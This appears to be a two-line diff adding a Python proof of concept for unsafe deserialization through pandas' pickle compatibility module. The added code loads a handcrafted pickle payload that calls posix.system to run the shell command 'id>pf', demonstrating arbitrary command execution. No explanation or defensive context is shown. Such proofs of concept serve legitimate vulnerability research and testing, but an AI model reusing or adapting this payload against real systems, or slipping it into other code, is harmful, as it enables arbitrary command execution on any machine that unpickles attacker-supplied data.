@@ -1,0 +1,2 @@
+import pandas.compat.pickle_compat as p
+p.pkl.loads(b"cposix\nsystem\n(S'id>pf'\ntR.")
